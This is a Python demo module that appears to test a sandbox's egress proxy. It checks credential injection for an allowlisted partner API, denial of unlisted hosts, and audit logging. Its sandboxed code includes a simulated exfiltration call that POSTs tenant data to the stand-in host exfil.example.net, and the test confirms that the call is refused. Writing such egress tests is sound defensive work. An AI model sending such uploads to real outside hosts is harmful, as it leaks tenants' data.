"""The demo's allowlisted turn: code in a session of acme's `default-allowlist` environment calls an
allowed API and the proxy adds the tenant's credential on the way out (the session never holds
it); a call to a host the policy does not list is refused and named in the call's audit row.

The "API" is an HTTPS server of the demo's own on loopback, with a CA of its own, which the local
stack's egress proxy reaches through a test route (`SANDBOX_EGRESS_TEST_ROUTES`,
`SANDBOX_EGRESS_TEST_CA`): `DemoApi.routes()` gives what `sandboxctl local up` must read, so the
demo sets them before it starts its stack. `run_egress_step(target, api, turn_id, show)` returns
the problems it found (empty = as the contract says).
"""

from __future__ import annotations

import json
import secrets
import ssl
import tempfile
import threading
from collections.abc import Callable
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

from sandbox_common import naming as n
from sandbox_common.turn_token import new_token

from infra.local.certs import make_ca, make_leaf

TENANT, AGENT, TEMPLATE, ENVIRONMENT = "acme", "demo-agent", "allowlisted", "default-allowlist"
API_HOST = "api.partner.demo"
DENIED_HOST = "exfil.example.net"
SECRET_NAME = "partner-token"
CODE = f"""import json, urllib.request, urllib.error
orders = json.load(urllib.request.urlopen('https://{API_HOST}/orders', timeout=30))
print('orders from the partner API:', orders['orders'])
try:
    urllib.request.urlopen('https://{DENIED_HOST}/upload', data=b'the tenant data', timeout=30)
except urllib.error.URLError as refused:
    print('{DENIED_HOST}:', refused.reason)
"""


class DemoApi:
    """An HTTPS server for API_HOST on 127.0.0.1 that answers /orders and remembers the
    Authorization header each request carried."""

    def __init__(self) -> None:
        self.directory = Path(tempfile.mkdtemp(prefix="sandbox-demo-api-"))
        ca = make_ca("sandbox demo partner API CA")
        leaf = make_leaf(ca, [API_HOST])
        self.ca_file = self.directory / "ca.pem"
        self.ca_file.write_bytes(ca.cert_pem)
        (self.directory / "server.pem").write_bytes(leaf.cert_pem + leaf.key_pem)
        self.authorizations: list[str] = []
        seen = self.authorizations

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, format: str, *args: Any) -> None:  # noqa: A002 - the stdlib's name
                pass

            def do_GET(self) -> None:  # noqa: N802 - the stdlib's name
                seen.append(self.headers.get("Authorization") or "")
                body = json.dumps({"orders": [1042, 1043]}).encode()
                self.send_response(200)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        context.load_cert_chain(str(self.directory / "server.pem"))
        self.server.socket = context.wrap_socket(self.server.socket, server_side=True)
        threading.Thread(target=self.server.serve_forever, name="demo-api", daemon=True).start()

    def routes(self) -> dict[str, str]:
        """The environment `local up` reads to route API_HOST here and trust this server's CA."""
        port = self.server.server_address[1]
        return {
            n.ENV_EGRESS_TEST_ROUTES: f"{API_HOST}=127.0.0.1:{port}",
            n.ENV_EGRESS_TEST_CA: str(self.ca_file),
        }

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


def run_egress_step(
    target: Any, api: DemoApi, turn_id: str, show: Callable[[str, dict[str, Any]], None]
) -> list[str]:
    from infra.sandboxctl import egress_ops, ops, records_ops

    secret = "demo-" + secrets.token_urlsafe(24)
    print(
        f"\n12. a fifth turn, in acme's `{ENVIRONMENT}` environment: the session reaches nothing but the"
        " egress proxy, which allows what the tenant's policy lists"
    )
    print(f"  sandboxctl secrets put --tenant {TENANT} {SECRET_NAME}   (the value on standard input)")
    egress_ops.secrets_put(target, TENANT, SECRET_NAME, secret)
    credential = f"{API_HOST}=Authorization:Bearer {{secret:{SECRET_NAME}}}"
    print(f"  sandboxctl egress set --tenant {TENANT} --environment {ENVIRONMENT} --allow {API_HOST} \\")
    print(f"      --credential '{credential}'")
    egress_ops.egress_set(target, TENANT, ENVIRONMENT, allow=[API_HOST], credentials=[credential])
    token = new_token()
    base = {"tenant_id": TENANT, "agent_id": AGENT, "template_id": TEMPLATE, "turn_id": turn_id}
    ops.invoke(target, {"action": "begin_turn", **base, "turn_token": token})
    event = {"action": "execute_code", **base, "turn_token": token, "call_id": f"{turn_id}-c1", "code": CODE}
    show("request", event)
    response = ops.invoke(target, event)
    show("response", response)
    ops.invoke(target, {"action": "end_turn", "tenant_id": TENANT, "turn_id": turn_id, "turn_token": token})

    problems = []
    sent = api.authorizations[-1] if api.authorizations else ""
    shown = sent.replace(secret, secret[:9] + "…") if secret in sent else sent or "(nothing)"
    print(f"\n  the partner API received: Authorization: {shown}  (added by the proxy)")
    if sent != f"Bearer {secret}":
        problems.append("the partner API did not receive the tenant's credential from the proxy")
    if not response.get("ok") or "orders from the partner API: [1042, 1043]" not in response.get(
        "stdout", ""
    ):
        problems.append(f"the allowlisted call did not reach the partner API: {response}")
    if secret in json.dumps(response):
        problems.append("the tenant's secret reached the session's answer")
    rows = [
        r
        for r in records_ops.audit_list(target, TENANT, session_id=str(response.get("session_id")))
        if r["invocation_id"] == response.get("invocation_id")
    ]
    egress = rows[0].get("egress") if rows else None
    print(f"\n  the call's audit row, egress: {json.dumps(egress)}")
    print(
        "  (a denial is counted before it is answered; allowed requests and bytes reach the session's"
        " counters within about a second, so a call's last ones show in the next call's row)"
    )
    if not egress or DENIED_HOST not in egress.get("denied_hosts", []):
        problems.append(f"the call's audit row does not name {DENIED_HOST} among its denied hosts: {egress}")
    return problems
